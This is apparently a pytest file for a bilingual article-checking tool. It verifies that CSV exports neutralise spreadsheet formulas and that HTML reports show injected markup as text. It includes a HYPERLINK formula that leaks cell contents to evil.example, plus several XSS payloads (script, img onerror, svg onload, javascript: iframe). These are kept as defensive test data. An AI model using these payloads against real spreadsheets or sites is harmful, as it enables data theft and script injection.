"""Outputs opened in Excel and browsers: formulas arrive as text, markup as text, nothing runs.

The article-text payload in the check report is covered in test_report; here the
payload sits in the glossary's cells too, and the diff report is loaded as well.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from bilingual.cli import app

from .helpers import GLOSSARY_HEADER, SMALL_GLOSSARY, write_article, write_glossary
from .browser import chromium

runner = CliRunner()
FORMULA_START = ("=", "+", "-", "@")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_check_csv_neutralises_formulas_from_article_text(tmp_path, start):
    payload = HYPERLINK.replace("=", start, 1)
    corpus = tmp_path / "corpus"
    write_article(corpus, "story", f"{payload} Putin said 21 people were killed in Kyiv.\n",
                  f"{payload} Путин заявил, что в Киеве погибли 12 человек.\n")
    res = runner.invoke(app, ["check", str(corpus), "-g", str(write_glossary(tmp_path)), "--format", "csv"])
    assert res.exit_code == 1, res.output
    got = cells(res.stdout)
    assert any(c == "'" + payload + " Putin said 21 people were killed in Kyiv." for c in got), got
    assert not [c for c in got if c.startswith(FORMULA_START)]


def test_glossary_mine_csv_neutralises_example_sentences(tmp_path):
    corpus = tmp_path / "corpus"
    write_article(corpus, "mayor",
                  f"{HYPERLINK} Ihor Terekhov said the city was attacked overnight.\n\n"
                  "+Mayor Ihor Terekhov asked residents to stay in shelters.\n",
                  f"{HYPERLINK} Игорь Терехов заявил, что ночью город был атакован.\n\n"
                  "+Мэр Игорь Терехов призвал жителей оставаться в укрытиях.\n")
    out = tmp_path / "proposals.csv"
    res = runner.invoke(app, ["glossary", "mine", str(corpus), "-g", str(write_glossary(tmp_path)),
                              "-o", str(out)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["en"] for r in rows] == ["Ihor Terekhov"]
    assert rows[0]["example_en"].startswith("'" + HYPERLINK)
    assert not [c for r in rows for c in r.values() if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_glossary_export_never_carries_a_formula(tmp_path, fmt):
    """A formula can't enter the glossary, so export has none to pass on; the load says where it was."""
    bad = write_glossary(tmp_path, GLOSSARY_HEADER + f'Kyiv,Киев,city,,,"{HYPERLINK.replace(chr(34), 2 * chr(34))}"\n')
    res = runner.invoke(app, ["glossary", "export", "-g", str(bad), "--format", fmt, "-o", str(tmp_path / "x")])
    assert res.exit_code == 2 and res.stderr.startswith(f"error: {bad}:2: column 'note' holds a formula-like")
    assert not (tmp_path / "x").exists()
    good = runner.invoke(app, ["glossary", "export", "-g", str(write_glossary(tmp_path)), "--format", fmt])
    assert good.exit_code == 0
    rows = list(csv.reader(io.StringIO(good.stdout), delimiter="," if fmt == "csv" else "\t"))
    assert len(rows) == SMALL_GLOSSARY.count("\n")
    assert not [c for r in rows for c in r if c.startswith(FORMULA_START)]


SCRIPT = "<script>window.__pwned = 1; document.title = 'pwned'</script>"
from bilingual.report.templating import SCRIPT as SCRIPT_OF_REPORT  # noqa: E402
IMG = "<img src=x onerror=\"window.__pwned = 2; document.title = 'pwned'\">"
# The payload in every free-text cell a term has: variants, forbidden forms, type and note.
PAYLOAD_GLOSSARY = GLOSSARY_HEADER + (
    "Vladimir Putin,Владимир Путин,person,,,\n"
    "Putin,Путин,person,Путина<b onmouseover=alert(1)>,Путлер<svg/onload=window.__pwned=3>,"
    f"\"{SCRIPT}\"\n"
    f"Kyiv,Киев,<i>city</i>,,Київ;{IMG.replace(chr(34), 2 * chr(34))},\"{IMG.replace(chr(34), 2 * chr(34))}\"\n"
    "Moldova,Молдова,country,,Молдавия,\"<iframe src=javascript:window.__pwned=4></iframe>\"\n"
)
EN = (f"Putin visited Kyiv on Monday and met the city's officials to discuss the talks. {SCRIPT}\n\n"
      f"Moldova wants to join the European Union before the end of the decade, its ministers said. {IMG}\n")
RU_OLD = (f"Путин посетил Київ в понедельник и встретился с городскими чиновниками, чтобы обсудить "
          f"переговоры. {SCRIPT}\n\nМолдавия хочет вступить в Европейский союз до конца десятилетия, "
          f"заявили её министры. {IMG}\n")
RU_NEW = RU_OLD.replace("Київ", "Киев").replace("Молдавия", "Молдова")


@pytest.fixture()
def payload_reports(tmp_path):
    glossary = write_glossary(tmp_path, PAYLOAD_GLOSSARY)
    folder = write_article(tmp_path / "corpus", "payload", EN, RU_OLD)
    (tmp_path / "ru_new.md").write_text(RU_NEW, encoding="utf-8")
    check_html, diff_html = tmp_path / "check.html", tmp_path / "diff.html"
    res = runner.invoke(app, ["check", str(tmp_path / "corpus"), "-g", str(glossary), "--format", "html",
                              "-o", str(check_html)])
    assert res.exit_code == 1, res.output
    flags = json.loads(runner.invoke(app, ["check", str(tmp_path / "corpus"), "-g", str(glossary),
                                           "--format", "json"]).stdout)["articles"][0]["flags"]
    assert {f["kind"] for f in flags} >= {"forbidden_variant"}
    res = runner.invoke(app, ["diff", str(folder / "ru.md"), str(tmp_path / "ru_new.md"), "--en",
                              str(folder / "en.md"), "-g", str(glossary), "--format", "html",
                              "-o", str(diff_html)])
    assert res.exit_code == 0, res.output
    return check_html, diff_html


def test_reports_hold_the_payloads_as_text_only(payload_reports):
    import lxml.html

    for page in payload_reports:
        tree = lxml.html.fromstring(page.read_bytes())
        # the check report's own script (by its id, its text the package's) is the only one
        own = tree.xpath("//script[@id='bilingual-report-script']")
        assert [s.text for s in own] in ([], [SCRIPT_OF_REPORT])
        assert not tree.xpath("//script[not(@id='bilingual-report-script')] | //img | //svg | //iframe | //b | //i"
                              " | //*[starts-with(@href, 'javascript')]")
        assert not [a for el in tree.iter() if isinstance(el.tag, str) for a in el.attrib if a.startswith("on")]
        assert SCRIPT in tree.text_content() and IMG in tree.text_content()


@pytest.mark.browser
@pytest.mark.slow
def test_payloads_in_article_and_glossary_do_not_run_in_chromium(payload_reports):
    driver = chromium()
    try:
        for page in payload_reports:
            driver.get(page.as_uri())
            assert driver.title != "pwned"
            assert driver.execute_script("return window.__pwned === undefined"), page.name
            assert not driver.find_elements("css selector",
                                            "script:not(#bilingual-report-script), img, svg, iframe, b, i")
            assert SCRIPT in driver.find_element("tag name", "body").text  # shown, not run
    finally:
        driver.quit()
